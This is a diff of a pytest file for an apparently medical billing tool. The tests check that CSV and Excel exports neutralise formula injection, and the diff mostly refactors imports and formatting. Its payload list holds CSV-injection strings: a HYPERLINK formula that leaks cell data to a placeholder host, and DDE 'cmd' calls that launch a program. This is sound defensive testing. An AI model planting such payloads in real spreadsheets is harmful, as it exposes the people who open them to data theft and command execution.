@@ -1,9 +1,10 @@
 """Issue 13 item 1: no cell written to a CSV or Excel file can run as a formula (OWASP CSV injection).
 
-Every writer goes through ccm_core/spreadsheet.py: the page downloads, the audit exports, the import
+Every writer goes through ccm_core/io/spreadsheet.py: the page downloads, the audit exports, the import
 problem / rejected-row files and the command-line CSV outputs.  Text cells that start with ``=``, ``+``,
 ``-``, ``@``, tab or carriage return get a leading apostrophe; numbers (negative ones too) stay numbers.
 """
+
 from __future__ import annotations
 
 import datetime as dt
@@ -14,13 +15,22 @@ import pandas as pd
 import pytest
 from sqlalchemy import select
 
+from ccm_core import cli
+from ccm_core.audit import sampling
+from ccm_core.io import exports, spreadsheet
+from ccm_core.storage import schema as s
+
 from builders import Builder
-from ccm_core import cli, exports, sampling, spreadsheet
-from ccm_core import schema as s
 
 D = dt.date
-PAYLOADS = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://x/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -52,8 +62,9 @@ def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
 def test_page_downloads_csv_and_excel_carry_no_live_formula():
     from ui.exports import to_csv_bytes, to_excel_bytes
 
-    df = pd.DataFrame({"patient_name": PAYLOADS, "charge": [-25.5, 10.0, -1.0, 0.0, 2.0, 3.0],
-                       "minutes": [-5, 19, 20, 21, 22, 23]})
+    df = pd.DataFrame(
+        {"patient_name": PAYLOADS, "charge": [-25.5, 10.0, -1.0, 0.0, 2.0, 3.0], "minutes": [-5, 19, 20, 21, 22, 23]}
+    )
     rows = _csv_cells(to_csv_bytes(df))
     assert rows[0] == ["patient_name", "charge", "minutes"]
     assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
@@ -102,11 +113,15 @@ def test_audit_findings_csv_and_excel_carry_no_live_formula(hostile_sample):
 
 
 def test_import_rejected_rows_and_problems_files_are_neutralised():
-    from ccm_core.imports.runner import FileResult, ImportRun, problems_csv
+    from ccm_core.io.imports.runner import FileResult, ImportRun, problems_csv
 
-    fr = FileResult(source="=x.csv", kind="patients", sha256="0",
-                    problems=pd.DataFrame({"file": ["=x.csv"], "row": [3], "column": ["mrn"], "problem": ["+bad"]}),
-                    rejected_rows=pd.DataFrame({"mrn": ["=1+1"], "minutes": ["-5"], "note": ["@evil"]}))
+    fr = FileResult(
+        source="=x.csv",
+        kind="patients",
+        sha256="0",
+        problems=pd.DataFrame({"file": ["=x.csv"], "row": [3], "column": ["mrn"], "problem": ["+bad"]}),
+        rejected_rows=pd.DataFrame({"mrn": ["=1+1"], "minutes": ["-5"], "note": ["@evil"]}),
+    )
     assert _csv_cells(fr.rejected_csv())[1] == ["'=1+1", "-5", "'@evil"]
     run = ImportRun(files=[fr], committed=False, dry_run=True, accept_valid=False, message="")
     assert _csv_cells(problems_csv(run))[1] == ["'=x.csv", "3", "mrn", "'+bad"]
@@ -134,13 +149,38 @@ def test_cli_csv_outputs_are_neutralised_and_logged_before_printing(engine, caps
     _no_formula_text([v for r in rows for v in r])
     rc, out = _run(capsys, "audit", "--db", url, "--month", "2025-03", "--format", "csv", "--user", "auditor1")
     assert rc == 0
-    rc, out = _run(capsys, "sample", "--db", url, "--from", "2025-03", "--to", "2025-03", "--size", "2",
-                   "--seed", "1", "--format", "csv", "--user", "auditor1")
+    rc, out = _run(
+        capsys,
+        "sample",
+        "--db",
+        url,
+        "--from",
+        "2025-03",
+        "--to",
+        "2025-03",
+        "--size",
+        "2",
+        "--seed",
+        "1",
+        "--format",
+        "csv",
+        "--user",
+        "auditor1",
+    )
     assert rc == 0
     with engine.connect() as conn:
-        log = conn.execute(select(s.access_log.c.username, s.access_log.c.action, s.access_log.c.page,
-                                  s.access_log.c.patient_count, s.access_log.c.detail)
-                           .order_by(s.access_log.c.id)).all()
-    assert [(r[0], r[1], r[2], r[3]) for r in log] == [("biller1", "export", "cli", 2), ("auditor1", "export", "cli", 2),
-                                                       ("auditor1", "export", "cli", 2)]
+        log = conn.execute(
+            select(
+                s.access_log.c.username,
+                s.access_log.c.action,
+                s.access_log.c.page,
+                s.access_log.c.patient_count,
+                s.access_log.c.detail,
+            ).order_by(s.access_log.c.id)
+        ).all()
+    assert [(r[0], r[1], r[2], r[3]) for r in log] == [
+        ("biller1", "export", "cli", 2),
+        ("auditor1", "export", "cli", 2),
+        ("auditor1", "export", "cli", 2),
+    ]
     assert [r[4].split(":")[0] for r in log] == ["billing", "audit", "sample"]
